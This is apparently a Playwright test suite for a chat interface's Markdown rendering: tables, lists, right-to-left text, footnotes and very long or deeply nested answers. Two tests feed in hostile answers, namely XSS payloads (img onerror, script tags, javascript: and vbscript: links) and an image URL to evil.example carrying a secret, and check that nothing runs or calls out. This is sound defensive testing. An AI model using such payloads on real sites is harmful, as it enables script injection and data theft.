"""What models write, on the page: Markdown is shown as such, and does nothing by itself."""

from itertools import chain

import pytest
from playwright.sync_api import expect
from support.fake_model import FakeModel, words
from support.page import Tale, browser, tab  # noqa: F401 - fixtures

ANSWER = """# Boiling water

It boils at **100 °C**; see [the table](https://example.org/steam?a=1#b), not `curl`.

| pressure | boils at |
| --- | --- |
| 1 bar | 100 °C |
| 2 bar | 120 °C |

1. Fill the kettle
2. Wait

```python
def boil(water: str) -> str: return f"a line that is far too long to fit into a phone's window: {water}"
```
"""
HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>

![a picture](https://evil.example/pixel.png?secret=1) [click](javascript:document.title='owned') <https://evil.example/>
"""


@pytest.mark.parametrize("size", [(1100, 800), (360, 740)], ids=["desk", "phone"])
def test_markdown_is_shown_as_it_is_meant(assay, tab, size: tuple[int, int]):
    with FakeModel(lambda: words(ANSWER)) as model:
        server = assay("serve", "--model-url", model.url)
        page = tab(server, viewport={"width": size[0], "height": size[1]}, bypass_csp=True)
        answer = page.answered("How does water boil?").locator(".answer")
        expect(answer.get_by_role("heading", name="Boiling water")).to_be_visible()
        expect(answer.locator("strong")).to_have_text("100 °C")
        expect(answer.locator("td")).to_have_text(["1 bar", "100 °C", "2 bar", "120 °C"])
        expect(answer.get_by_role("listitem")).to_have_text(["Fill the kettle", "Wait"])
        expect(answer.locator("pre code")).to_contain_text("def boil(water: str)")
        link = answer.get_by_role("link", name="the table")
        assert [link.get_attribute(name) for name in ("href", "target", "rel")] == ["https://example.org/steam?a=1#b", "_blank", "noopener noreferrer nofollow"]
        assert page.page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out at the side"
        assert page.serious_of_axe() == []
        page.screenshot(f"markdown-{size[0]}")


def test_an_answer_runs_nothing_and_asks_nobody(assay, tab):
    with FakeModel(lambda: words(HOSTILE)) as model:
        server = assay("serve", "--model-url", model.url)
        page = tab(server)
        asked: list[str] = []
        page.page.on("request", lambda request: asked.append(request.url))
        answer = page.answered("Be evil").locator(".answer")
        expect(answer).to_contain_text("<img src=x onerror=")
        expect(answer.get_by_role("link", name="a picture")).to_have_attribute("href", "https://evil.example/pixel.png?secret=1")
        assert answer.locator("img, script").count() == 0
        for link in answer.locator("a").all():
            assert not (link.get_attribute("href") or "").startswith("javascript:")
        assert page.page.title() != "owned"
        assert not [url for url in asked if not url.startswith(server.url)]


def test_an_address_that_is_not_allowed_is_no_link(assay, tab):
    with FakeModel(lambda: words("[this](javascript:alert(1)) [that][1] ![such](data:image/png;base64,AA==) [here](#there)\n\n[1]: vbscript:x\n")) as model:
        answer = tab(assay("serve", "--model-url", model.url)).answered("Be evil").locator(".answer")
        expect(answer.locator("p")).to_have_text("this that such here")
        assert answer.locator("a").count() == 0


def test_where_a_line_ends_one_line_ends(assay, tab):
    ends = "one  \ntwo\nthree\\\nfour"
    with FakeModel(lambda: words(f"{ends}\n\n- {ends}\n")) as model:
        answer = tab(assay("serve", "--model-url", model.url)).answered("Lines").locator(".answer")
        for shown in (answer.locator("p"), answer.locator("li")):
            assert shown.inner_text() == "one\ntwo\nthree\nfour"


def test_a_list_runs_as_its_language_does(assay, tab):
    text = "- אחת\n- שתיים\n\n1. one\n2. two\n   - ثلاثة\n\n> أربعة\n"
    with FakeModel(lambda: words(text)) as model:
        answer = tab(assay("serve", "--model-url", model.url)).answered("Lists").locator(".answer")
        ways = "lists => lists.map((list) => [list.localName, getComputedStyle(list).direction, parseFloat(getComputedStyle(list).paddingRight) > 0])"
        expect(answer.locator("blockquote")).to_be_visible()
        assert answer.locator("ul, ol").evaluate_all(ways) == [["ul", "rtl", True], ["ol", "ltr", False], ["ul", "rtl", True]]
        assert answer.locator("blockquote").evaluate("quote => getComputedStyle(quote).borderRightWidth") == "3px"


SECTION = """## Part {n}

It **boils** at `100` degrees; see [the table][t].

1. one

   - inner

2. two

| a | b |
| - | - |
| {n} | *b* |

```
code {n}

more
```

"""
LONG = "".join(SECTION.format(n=n) for n in range(500)) + "[t]: https://example.org/table\n"


def test_a_long_answer_is_markdown_to_its_end(assay, tab):
    with FakeModel(lambda: [LONG[at : at + 500] for at in range(0, len(LONG), 500)]) as model:
        page = tab(assay("serve", "--model-url", model.url))
        turn = page.ask("Go on")
        turn.get_by_role("button", name="Good answer").wait_for(timeout=120_000)
        answer = turn.locator(".answer")
        counts = {"h4": 500, "strong": 500, "a[href='https://example.org/table']": 500, "ol": 500, "ol > li": 1000, "ul": 500, "table": 500, "pre": 500}
        assert {selector: answer.locator(selector).count() for selector in counts} == counts
        assert answer.locator(".plain").count() == 0


@pytest.mark.parametrize("nested", ["".join("  " * level + f"- level {level}\n" for level in range(300)), "*a **b " * 4000 + "c** d*" * 4000], ids=["lists", "emphasis"])
def test_what_lies_deep_in_itself_leaves_the_page_alive(assay, tab, nested: str):
    tale = Tale()
    with FakeModel(lambda: chain((nested[at : at + 1000] for at in range(0, len(nested), 1000)), tale())) as model:
        page = tab(assay("serve", "--model-url", model.url))
        turn = page.ask("Go deep")
        expect(turn.locator(".answer")).to_contain_text("Once", timeout=60_000)
        page.page.get_by_role("button", name="Stop").click()
        expect(turn.get_by_text("Stopped.")).to_be_visible()
        assert turn.locator(".answer li").count() <= 20
        tale.told.set()


def test_a_note_stands_under_its_name(assay, tab):
    with FakeModel(lambda: words("It boils[^b] at 100.\n\n[^b]: At sea level.\n\n[^c]: Nobody refers to it.\n")) as model:
        answer = tab(assay("serve", "--model-url", model.url)).answered("Boil").locator(".answer")
        expect(answer.locator("p").first).to_have_text("It boilsb at 100.")
        expect(answer.locator(".footnote")).to_have_text(["b At sea level.", "c Nobody refers to it."])
        assert answer.locator("a").count() == 0
